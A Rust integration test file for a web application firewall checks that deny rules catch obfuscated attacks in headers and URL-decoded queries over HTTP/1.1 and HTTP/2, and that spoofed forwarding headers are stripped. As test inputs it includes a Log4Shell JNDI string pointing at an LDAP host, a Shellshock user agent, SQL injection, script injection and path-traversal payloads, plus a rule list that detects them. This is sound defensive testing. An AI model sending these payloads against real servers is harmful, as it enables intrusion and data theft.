//! Every value an origin reads is a value the rules see: a header whose value carries bytes
//! that are not UTF-8 (obs-text), every copy of a header sent many times, the query as a
//! framework decodes it (`%31`, `+`); and the forwarding headers an origin trusts for the URL
//! it builds never come from the client. Against the echoing origin, over HTTP/1.1 and HTTP/2.

use palisade_tests::http::{Front, H1Conn, H2Conn, Origin, Resp, base_config};
use palisade_tests::net;

const RULES: &str = r#"
[[tenant]]
id = 1
[[tenant.rule]]
name = "jndi"
action = "deny"
when = [{ attr = "header:x-api-version", contains = "${jndi:" }]
[[tenant.rule]]
name = "attack-header"
action = "deny"
when = [{ attr = "header:x-attack", present = true }]
[[tenant.rule]]
name = "shellshock"
action = "deny"
when = [{ attr = "user_agent", contains = "() {" }]
[[tenant.rule]]
name = "debug"
action = "deny"
when = [{ attr = "query", regex = "(^|&)debug=1(&|$)" }]
[[tenant.rule]]
name = "sqli"
action = "deny"
when = [{ attr = "query", regex = "(?i)union\\s+select|<script" }]
[[tenant.rule]]
name = "traversal"
action = "deny"
when = [{ attr = "query", contains = "../" }]
"#;

fn start(origin: &Origin) -> Front {
    let o = origin.addr();
    Front::start(
        move |a, m| {
            format!(
                "{}[rules]\nfile = \"rules.toml\"\n\n\
                 [[site]]\nhosts = [\"a.test\"]\nupstream = \"app\"\ntenant = 1\n",
                base_config(a, m, o)
            )
        },
        Some(RULES),
    )
}

/// One HTTP/1.1 request of raw header lines (bytes as given) to `a.test`.
fn raw(front: &Front, target: &str, lines: &[&[u8]]) -> Resp {
    let mut req = format!("GET {target} HTTP/1.1\r\nHost: a.test\r\n").into_bytes();
    for l in lines {
        req.extend_from_slice(l);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(b"Connection: close\r\n\r\n");
    let mut c = H1Conn::connect(Some(net::test_ip()), front.addr()).unwrap();
    c.send_raw(&req).unwrap();
    c.read_response().unwrap()
}

#[test]
fn http_rules_see_every_header_value_and_the_decoded_query() {
    let origin = Origin::start();
    let front = start(&origin);

    // Control: the origin serves the harmless forms.
    assert_eq!(raw(&front, "/", &[b"X-Api-Version: 1"]).status, 200);
    assert_eq!(raw(&front, "/?debug=2&q=union", &[]).status, 200);
    assert_eq!(raw(&front, "/?q=a+b%20c", &[]).status, 200);
    let served = origin.requests();
    assert_eq!(served, 3);

    // A value with a byte that is no UTF-8 (or is UTF-8 but not ASCII) is still seen.
    let denied_heads: &[&[&[u8]]] = &[
        &[b"X-Api-Version: ${jndi:ldap://198.51.100.9/x}\xe9"],
        &[b"X-Api-Version: ${jndi:ldap://198.51.100.9/x}\xc3\xa9"],
        &[b"X-Attack: \x80"],
        &[b"User-Agent: () { :; }; /bin/echo pwned \xa0"],
        // The first copy unreadable must not hide the next ones.
        &[b"X-Api-Version: \xe9", b"X-Api-Version: ${jndi:x}"],
    ];
    for lines in denied_heads {
        let r = raw(&front, "/", lines);
        let shown: Vec<_> = lines.iter().map(|l| String::from_utf8_lossy(l)).collect();
        assert_eq!(r.status, 403, "{shown:?}: {}", r.body);
    }
    // Past the 64th copy of a header (h1 allows 100 fields).
    let decoys: Vec<&[u8]> = std::iter::repeat_n(&b"X-Api-Version: 1"[..], 90)
        .chain([&b"X-Api-Version: ${jndi:x}"[..]])
        .collect();
    assert_eq!(raw(&front, "/", &decoys).status, 403);

    // The query as the origin's framework decodes it.
    for q in [
        "debug=%31",
        "%64ebug=1",
        "x=1&de%62ug=1",
        "q=union+select+1",
        "q=union%20select%201",
        "q=UNION%09SELECT",
        "q=%3Cscript%3E",
        "f=..%2f..%2fetc%2fpasswd",
        "f=%2e%2e/%2e%2e/etc",
    ] {
        let r = raw(&front, &format!("/?{q}"), &[]);
        assert_eq!(r.status, 403, "{q}: {}", r.body);
    }
    assert_eq!(
        origin.requests(),
        served,
        "a denied value reached the origin"
    );

    // HTTP/2: more copies of one header than the rules look at is refused (431), and a
    // payload past 64 decoys is seen.
    let mut h2 = H2Conn::connect(Some(net::test_ip()), front.addr()).unwrap();
    let mut fields: Vec<(&str, &str)> = vec![("x-api-version", "1"); 200];
    fields.push(("x-api-version", "${jndi:x}"));
    let id = h2
        .send_request("GET", "a.test", "/", &fields, true)
        .unwrap();
    assert_eq!(h2.read_response(id).unwrap().status, 403);
    let many: Vec<(&str, &str)> = vec![("x-b", "1"); 300];
    let id = h2.send_request("GET", "a.test", "/", &many, true).unwrap();
    assert_eq!(h2.read_response(id).unwrap().status, 431);
    let id = h2
        .send_request("GET", "a.test", "/?debug=%31", &[], true)
        .unwrap();
    assert_eq!(h2.read_response(id).unwrap().status, 403);
    assert_eq!(origin.requests(), served);
    assert!(front.metric("http_front_limit_hits_total{limit=\"header_copies\"}") >= 1);
}

#[test]
fn http_forwarding_headers_for_the_url_never_come_from_the_client() {
    let origin = Origin::start();
    let front = start(&origin);
    let r = raw(
        &front,
        "/",
        &[
            b"X-Forwarded-Port: 8443",
            b"X-Forwarded-Prefix: /evil",
            b"X-Forwarded-Scheme: https",
            b"X-Forwarded-Ssl: on",
            b"Front-End-Https: on",
            b"X-Original-Host: evil.test",
            b"X-Url-Scheme: https",
            b"X-Keep: yes",
        ],
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let seen = r.body.to_ascii_lowercase();
    assert!(seen.contains("x-keep: yes"), "{seen}");
    for h in [
        "x-forwarded-port",
        "x-forwarded-prefix",
        "x-forwarded-scheme",
        "x-forwarded-ssl",
        "front-end-https",
        "x-original-host",
        "x-url-scheme",
    ] {
        assert!(!seen.contains(h), "{h} reached the origin: {seen}");
    }
}
